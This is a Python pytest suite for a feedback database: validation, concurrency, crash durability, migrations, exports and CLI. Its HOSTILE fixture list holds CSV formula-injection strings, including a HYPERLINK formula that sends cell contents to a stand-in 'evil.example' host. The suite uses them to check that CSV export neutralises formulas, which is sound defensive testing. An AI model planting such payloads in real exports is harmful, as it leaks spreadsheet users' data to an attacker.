"""The durable feedback store (issue 5) on SQLite and PostgreSQL: idempotent submissions, validation, shared media,
concurrent writers in several processes, kill -9 mid-write, schema migrations, exports and the `feedback` CLI."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
import uuid

import pytest
import sqlalchemy as sa
from conftest import ROOT

from mmdemo.errors import InputError, StoreError
from mmdemo.feedback import export, open_store
from mmdemo.feedback.exports import read_csv
from mmdemo.feedback.store import SCHEMA_VERSION, database_url, make_engine, media_table, migrate, version_table

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4  # sniffed by its signature; the store never decodes media
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(64)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-1+2",
    "+1",
    "@SUM(A1:A9)",
    "\tx",
    "\rcr",
    "\nlf",
    " lead",
    "'quoted",
    "''",
    "a,b,c",
    'say "hi", then leave',
    "two\nlines\r\nand a CRLF",
    "emoji 👍🏽 ünïcödé 中文 עברית",
    "=",
    "-1",
    "",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", " ")

# A writer process: `threads` mode submits threads × n rows with unique keys and prints "done"; `loop` mode submits
# forever and prints each key only after submit returned (the acknowledgement), flushed at once.
WRITER = r"""
import itertools, sys
from concurrent.futures import ThreadPoolExecutor
from mmdemo.feedback import open_store

url, mode, tag = sys.argv[1:4]
if mode == "threads":
    threads, n = int(sys.argv[4]), int(sys.argv[5])
    store = open_store(url, pool_size=threads)

    def work(t):
        for i in range(n):
            record = {"key": f"{tag}-{t}-{i}", "task": "vqa", "model": f"m{t % 2}", "rating": 1 if i % 4 else -1}
            store.submit({**record, "output": {"answer": "red"}, "question": "what color?"})

    with ThreadPoolExecutor(threads) as pool:
        for future in [pool.submit(work, t) for t in range(threads)]:
            future.result()  # a failed submission fails the process
    print("done", flush=True)
else:
    store = open_store(url, pool_size=1)
    for i in itertools.count():
        media = (tag + str(i)).encode() * 5000 if i % 5 == 0 else None  # ~50 kB in every fifth row
        rec = {"key": f"{tag}-{i}", "task": "vqa", "rating": 1, "comment": "c" * 500, "media_kind": "image"}
        print(store.submit(rec, media=media)["key"], flush=True)
"""


@pytest.fixture(params=["sqlite", "postgres"])
def db_url(request, tmp_path):
    """A fresh, empty database: a SQLite file, or a new database on the test PostgreSQL server (dropped after)."""
    if request.param == "sqlite":
        yield str(tmp_path / "data" / "feedback.db")
        return
    server = sa.make_url(database_url(request.getfixturevalue("postgres_url")))
    name = "t_" + uuid.uuid4().hex[:16]
    admin = sa.create_engine(server, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.exec_driver_sql(f"CREATE DATABASE {name}")
    yield server.set(database=name).render_as_string(hide_password=False)
    with admin.connect() as conn:
        conn.exec_driver_sql(f"DROP DATABASE {name} WITH (FORCE)")
    admin.dispose()


@pytest.fixture
def store(db_url):
    with open_store(db_url) as store:
        yield store


def record(**fields) -> dict:
    return {"task": "visual-question-answering", "model": "mmdemo-vqa-easy", "output": {"answer": "red"}, **fields}


def media_rows(store) -> int:
    with store.engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(media_table)).scalar_one()


def test_submit_is_idempotent_and_a_changed_vote_updates_the_same_row(store):
    first = store.submit(record(key="click-1", rating=1, question="what color?", params={"top_k": 3}))
    assert isinstance(first["id"], int) and first["rating"] == 1 and first["params"] == {"top_k": 3}
    assert store.submit(record(key="click-1", rating=1, question="what color?", params={"top_k": 3})) == first
    assert store.count() == 1
    changed = store.submit(record(key="click-1", rating=-1, comment="it is blue", correction="blue", tester="ann"))
    assert changed["id"] == first["id"] and store.count() == 1
    assert (changed["rating"], changed["comment"], changed["correction"], changed["tester"]) == (
        -1,
        "it is blue",
        "blue",
        "ann",
    )
    assert changed["question"] == "what color?" and changed["created_at"] == first["created_at"]  # the rest stays
    assert changed["updated_at"] >= first["updated_at"]
    assert store.rows() == [changed]
    other = store.submit(record(rating=None))  # no key: a fresh one, a new row
    assert len(other["key"]) == 32 and other["id"] != first["id"] and store.count() == 2


def test_bad_submissions_are_rejected_with_a_message_and_nothing_is_written(store, tmp_path):
    big_output = {"answer": "x" * 100_001}
    bad = [
        (record(comment="x" * 5_001), {}, "comment is too long"),
        (record(correction="x" * 5_001), {}, "correction is too long"),
        (record(tester="x" * 101), {}, "tester is too long"),
        (record(question="x" * 2_001), {}, "question is too long"),
        (record(output=big_output), {}, "output is too large"),
        (record(rating=2), {}, "rating must be"),
        (record(rating=0), {}, "rating must be"),
        (record(rating=True), {}, "rating must be"),
        (record(rating="1"), {}, "rating must be"),
        (record(question="what\x00color"), {}, "NUL"),
        (record(comment="\x00"), {}, "NUL"),
        (record(question="\ud800"), {}, "lone surrogates"),
        (record(task=""), {}, "needs a task"),
        (record(task="   "), {}, "needs a task"),
        ({"model": "m"}, {}, "needs a task"),
        (record(task=5), {}, "must be text"),
        (record(comment=["a"]), {}, "must be text"),
        (record(params=[1, 2]), {}, "params must be a dict"),
        (record(output=object()), {}, "plain JSON"),
        (record(output=float("nan")), {}, "plain JSON"),
        (record(colour="red"), {}, "Unknown feedback field"),
        ("not a dict", {}, "must be a dict"),
        (record(), {"media": b""}, "empty"),
        (record(), {"media": b"\x00" * (20 * 2**20 + 1)}, "too large"),
        (record(), {"media": 12345}, "bytes or a file path"),
        (record(), {"media": b"no known signature"}, "say media_kind"),
        (record(media_kind="video"), {"media": PNG}, "media_kind must be"),
        (record(), {"media": tmp_path / "missing.png"}, "could not be read"),
    ]
    for rec, kwargs, message in bad:
        with pytest.raises(InputError, match=message) as caught:
            store.submit(rec, **kwargs)
        assert str(tmp_path) not in str(caught.value)  # no server path in a message meant for users
    assert store.count() == 0 and media_rows(store) == 0
    assert store.submit(record(rating=1, comment="fine"))["comment"] == "fine"  # the store still serves
    assert store.count() == 1 and store.integrity_check()


def test_media_is_stored_once_under_its_sha256(store, tmp_path):
    path = tmp_path / "upload.png"
    path.write_bytes(PNG)
    a = store.submit(record(rating=1), media=PNG)
    b = store.submit(record(rating=-1), media=str(path))  # the same bytes, given as a file path
    assert a["media_sha256"] == b["media_sha256"] and a["media_kind"] == "image" and a["id"] != b["id"]
    assert media_rows(store) == 1
    assert store.media(a["media_sha256"]) == ("image", PNG)
    assert store.media_record(a["media_sha256"])["ext"] == "png"
    sound = store.submit(record(task="audio-classification"), media=WAV)
    assert store.media(sound["media_sha256"]) == ("audio", WAV) and media_rows(store) == 2
    assert store.media("0" * 64) is None
    assert store.submit(record(media_kind="image"))["media_kind"] is None  # a kind without media means nothing


def test_rows_filter_and_summary_counts_votes(store):
    for task, model, rating, comment in [
        ("vqa", "a", 1, "good"),
        ("vqa", "a", 1, None),
        ("vqa", "a", -1, ""),
        ("vqa", "b", None, "no vote"),
        ("caption", "a", -1, None),
    ]:
        store.submit({"task": task, "model": model, "rating": rating, "comment": comment, "output": [task, model]})
    assert store.count() == 5
    assert [r["comment"] for r in store.rows(task="vqa", model="a", newest_first=False)] == ["good", None, ""]
    assert [r["comment"] for r in store.rows(has_comment=True)] == ["no vote", "good"]
    assert len(store.rows(has_comment=False)) == 3
    assert [r["task"] for r in store.rows(rating=-1)] == ["caption", "vqa"]
    assert store.rows(limit=1)[0]["output"] == ["caption", "a"]
    assert store.summary() == [
        {"task": "caption", "model": "a", "n": 1, "up": 0, "down": 1, "up_rate": 0.0},
        {"task": "vqa", "model": "a", "n": 3, "up": 2, "down": 1, "up_rate": 2 / 3},
        {"task": "vqa", "model": "b", "n": 1, "up": 0, "down": 0, "up_rate": None},
    ]


def test_sqlite_connections_are_durable_and_a_writer_waits_for_the_lock(tmp_path):
    import sqlite3

    db = tmp_path / "feedback.db"
    with open_store(str(db)) as store:
        with store.engine.connect() as conn:
            pragmas = [conn.exec_driver_sql(f"PRAGMA {p}").scalar() for p in ("journal_mode", "synchronous")]
            pragmas += [conn.exec_driver_sql(f"PRAGMA {p}").scalar() for p in ("foreign_keys", "busy_timeout")]
        assert pragmas == ["wal", 2, 1, 30_000]  # synchronous 2 = FULL
        other = sqlite3.connect(db, isolation_level=None)
        other.execute("BEGIN IMMEDIATE")  # another process holds the write lock
        done = []
        waiting = threading.Thread(target=lambda: done.append(store.submit(record(key="waited"))))
        waiting.start()
        time.sleep(0.5)
        assert waiting.is_alive() and not done  # waiting for the lock, not failing
        other.execute("COMMIT")
        waiting.join(timeout=30)
        assert done and done[0]["key"] == "waited" and store.count() == 1
        other.close()


def writer(url: str, mode: str, tag: str, *args: str) -> subprocess.Popen:
    command = [sys.executable, "-c", WRITER, url, mode, tag, *args]
    return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_concurrent_writers_in_four_processes_lose_nothing(db_url):
    """4 processes × 8 threads × 100 submissions into a database none of them has opened: all migrate it at once."""
    start = time.perf_counter()
    procs = [writer(db_url, "threads", f"p{p}", "8", "100") for p in range(4)]
    for proc in procs:
        out, err = proc.communicate(timeout=300)
        assert proc.returncode == 0 and out.strip() == "done", err[-3000:]
    seconds = time.perf_counter() - start
    with open_store(db_url) as store:
        assert store.count() == 3_200 and store.integrity_check()
        assert len({r["key"] for r in store.rows()}) == 3_200
        assert sum(s["n"] for s in store.summary()) == 3_200
        assert sum(s["down"] for s in store.summary()) == 4 * 8 * 25
    kind = "postgresql" if "://" in db_url else "sqlite"
    print(f"\n{kind}: 3,200 submissions from 4 processes × 8 threads in {seconds:.1f} s")


def test_kill_9_while_writing_loses_no_acknowledged_row(db_url):
    open_store(db_url).close()
    proc = writer(db_url, "loop", "k")
    acked = []
    while len(acked) < 200:
        line = proc.stdout.readline()
        assert line, proc.stderr.read()[-3000:]
        acked.append(line.strip())
    os.kill(proc.pid, signal.SIGKILL)  # mid-way through the next submission
    rest, _ = proc.communicate(timeout=30)
    acked += rest.split()  # acknowledged before the kill, still in the pipe
    assert proc.returncode == -signal.SIGKILL
    with open_store(db_url) as store:
        assert store.integrity_check()
        stored = {r["key"] for r in store.rows()}
        assert set(acked) <= stored, f"lost: {sorted(set(acked) - stored)[:5]}"
        assert len(stored) - len(acked) <= 1  # at most the submission in flight committed without its ack
        assert store.submit(record(key="after-the-kill"))["key"] == "after-the-kill"
        assert store.count() == len(stored) + 1


def test_an_older_schema_is_migrated_and_its_rows_kept(db_url):
    engine = make_engine(database_url(db_url), pool_size=1)
    assert migrate(engine, target=1) == 0  # the schema of version 1: no app_version column
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO feedback (key, created_at, updated_at, task, rating, output) "
                "VALUES ('old', '2024-01-01T00:00:00+00:00', '2024-01-01T00:00:00+00:00', 'vqa', 1, '{\"answer\": 1}')"
            )
        )
        columns = {c["name"] for c in sa.inspect(conn).get_columns("feedback")}
    assert "app_version" not in columns
    engine.dispose()
    with open_store(db_url) as store:
        with store.engine.connect() as conn:
            assert conn.execute(sa.select(version_table.c.version)).scalar_one() == SCHEMA_VERSION == 2
            assert "ix_feedback_task_model" in {i["name"] for i in sa.inspect(conn).get_indexes("feedback")}
        (old,) = store.rows()
        assert (old["key"], old["output"], old["app_version"]) == ("old", {"answer": 1}, None)
        assert store.submit(record(key="new", app_version="0.2.0"))["app_version"] == "0.2.0"
    with open_store(db_url) as store:  # opening a current store again changes nothing
        assert store.count() == 2
        with store.engine.begin() as conn:
            conn.execute(version_table.update().values(version=SCHEMA_VERSION + 1))
    with pytest.raises(StoreError, match="newer than this mmdemo"):
        open_store(db_url)


def hostile_store(store) -> list[dict]:
    """One row per hostile string, in every text field and inside the JSON ones; media in some rows."""
    for i, text in enumerate(HOSTILE):
        fields = dict.fromkeys(("session", "model", "revision", "question", "comment", "correction", "tester"), text)
        rec = {**fields, "key": f"h{i}", "task": "vqa", "rating": (1, -1, None)[i % 3], "app_version": text[:100]}
        store.submit({**rec, "params": {"p": text}, "output": {"answer": text}}, media=(PNG, WAV, None)[i % 3])
    return store.rows(newest_first=False)


def test_csv_export_neutralises_formulas_and_read_csv_round_trips_every_field(store, tmp_path):
    rows = hostile_store(store)
    out = tmp_path / "export" / "feedback.csv"
    assert export(store, out, "csv") == len(HOSTILE)
    raw = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in raw and ",=HYPERLINK" not in raw and "'-1+2" in raw and "'@SUM" in raw
    for cells in list(csv.reader(io.StringIO(raw, newline="")))[1:]:
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or cell == "-1", repr(cell)  # a plain -1 is a number
    back = read_csv(out)
    assert len(back) == len(rows)
    for row, got in zip(rows, back, strict=True):
        for name, value in row.items():
            if name in ("params", "output"):
                assert json.loads(got[name]) == value
            else:
                assert got[name] == ("" if value is None else str(value)), name
        assert got["media_file"] == (
            f"feedback_media/{row['media_sha256']}.{'png' if row['media_kind'] == 'image' else 'wav'}"
            if row["media_sha256"]
            else ""
        )
        if got["media_file"]:
            assert (out.parent / got["media_file"]).read_bytes() == store.media(row["media_sha256"])[1]
    assert sorted(p.name for p in (out.parent / "feedback_media").iterdir()) == sorted(
        {f"{r['media_sha256']}.{'png' if r['media_kind'] == 'image' else 'wav'}" for r in rows if r["media_sha256"]}
    )


def test_jsonl_and_parquet_exports_hold_every_row_and_media(store, tmp_path):
    import pyarrow.parquet as pq

    rows = hostile_store(store)
    assert export(store, tmp_path / "f.jsonl", "jsonl") == len(rows)
    lines = (tmp_path / "f.jsonl").read_text(encoding="utf-8").split("\n")
    assert lines[-1] == "" and len(lines) == len(rows) + 1
    back = [json.loads(line) for line in lines[:-1]]
    assert [{k: v for k, v in b.items() if k != "media_file"} for b in back] == rows
    for b in back:
        assert (b["media_file"] is None) == (b["media_sha256"] is None)
        if b["media_file"]:
            assert (tmp_path / b["media_file"]).read_bytes() == store.media(b["media_sha256"])[1]
    assert export(store, tmp_path / "f.parquet", "parquet", model=HOSTILE[0]) == 1
    assert export(store, tmp_path / "f.parquet", "parquet") == len(rows)
    table = pq.read_table(tmp_path / "f.parquet")
    assert str(table.schema.field("rating").type) == "int8" and table.num_rows == len(rows)
    for row, got in zip(rows, table.to_pylist(), strict=True):
        assert {**got, "params": json.loads(got["params"]), "output": json.loads(got["output"])} == {
            **row,
            "media_file": got["media_file"],
        }
        assert got["media_file"] == next(b["media_file"] for b in back if b["key"] == row["key"])


def test_datasets_export_loads_offline_with_media_bytes(store, tmp_path, monkeypatch):
    import datasets

    rows = hostile_store(store)
    assert export(store, tmp_path / "ds", "datasets", task="vqa") == len(rows)
    loaded = datasets.load_from_disk(str(tmp_path / "ds"))
    assert loaded.num_rows == len(rows) and loaded.features["media"].dtype == "binary"
    for row, got in zip(rows, loaded, strict=True):
        assert got["key"] == row["key"] and got["question"] == row["question"] and got["rating"] == row["rating"]
        assert json.loads(got["output"]) == row["output"]
        assert got["media"] == (store.media(row["media_sha256"])[1] if row["media_sha256"] else None)
    assert export(store, tmp_path / "ds", "datasets", task="other") == 0  # replaces its own earlier export
    assert datasets.load_from_disk(str(tmp_path / "ds")).num_rows == 0
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "mine.txt").write_text("keep")
    with pytest.raises(ValueError, match="not a datasets export"):
        export(store, tmp_path / "notes", "datasets")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    with pytest.raises(ValueError, match="HF_HUB_OFFLINE"):
        export(store, tmp_path / "ds2", "datasets", push_to_hub="someone/feedback")
    with pytest.raises(ValueError, match="needs the datasets format"):
        export(store, tmp_path / "f.csv", "csv", push_to_hub="someone/feedback")


def test_open_store_reads_the_environment_and_makes_the_folders(tmp_path, monkeypatch):
    monkeypatch.delenv("MMDEMO_FEEDBACK_DB", raising=False)
    monkeypatch.setenv("MMDEMO_DATA_DIR", str(tmp_path / "data"))
    assert database_url() == f"sqlite:///{tmp_path / 'data' / 'feedback.db'}"
    monkeypatch.setenv("MMDEMO_FEEDBACK_DB", str(tmp_path / "a" / "b" / "fb.db"))
    with open_store() as store:
        store.submit(record())
    assert (tmp_path / "a" / "b" / "fb.db").exists()
    assert database_url("postgresql://u@h/db") == "postgresql+psycopg://u@h/db"
    assert database_url(f"sqlite:///{tmp_path}/x.db") == f"sqlite:///{tmp_path}/x.db"
    for bad in ("mysql://u@h/db", "sqlite:///:memory:"):
        with pytest.raises(ValueError):
            database_url(bad)


def test_importing_the_feedback_package_is_light():
    code = "import sys, mmdemo.feedback; print(sorted({'sqlalchemy', 'torch', 'gradio', 'pyarrow'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.stdout.strip() == "[]", done.stderr


def run_cli(*args: str) -> subprocess.CompletedProcess:
    # -X importtime lists every module imported: the check that the feedback commands never import torch
    command = [sys.executable, "-X", "importtime", "-m", "mmdemo", "feedback", *args]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert not [line for line in done.stderr.splitlines() if line.rstrip().endswith(("| torch", "| gradio"))]
    return done


def test_cli_exports_and_prints_stats(tmp_path):
    db = tmp_path / "feedback.db"
    with open_store(str(db)) as store:
        hostile_store(store)
        store.submit({"task": "caption", "model": "blip", "rating": 1})
    done = run_cli("export", "--format", "csv", "--out", str(tmp_path / "out.csv"), "--db", str(db), "--task", "vqa")
    assert done.returncode == 0, done.stderr[-3000:]
    assert f"{len(HOSTILE)} feedback rows" in done.stdout
    assert len(read_csv(tmp_path / "out.csv")) == len(HOSTILE) and (tmp_path / "out_media").is_dir()
    done = run_cli(
        "export", "--format", "jsonl", "--out", str(tmp_path / "b.jsonl"), "--db", str(db), "--model", "blip"
    )
    assert done.returncode == 0 and json.loads((tmp_path / "b.jsonl").read_text())["model"] == "blip"
    done = run_cli("stats", "--db", str(db))
    assert done.returncode == 0, done.stderr[-3000:]
    assert f"{len(HOSTILE) + 1} feedback rows" in done.stdout
    line = next(line for line in done.stdout.splitlines() if line.startswith("caption"))
    assert line.split() == ["caption", "blip", "1", "1", "0", "100%"]
    done = run_cli("stats", "--db", str(tmp_path / "missing.db"))
    assert done.returncode != 0 and "no feedback database" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "missing.db").exists()
    done = run_cli("export", "--format", "xml", "--out", "x", "--db", str(db))
    assert done.returncode == 2 and "invalid choice" in done.stderr
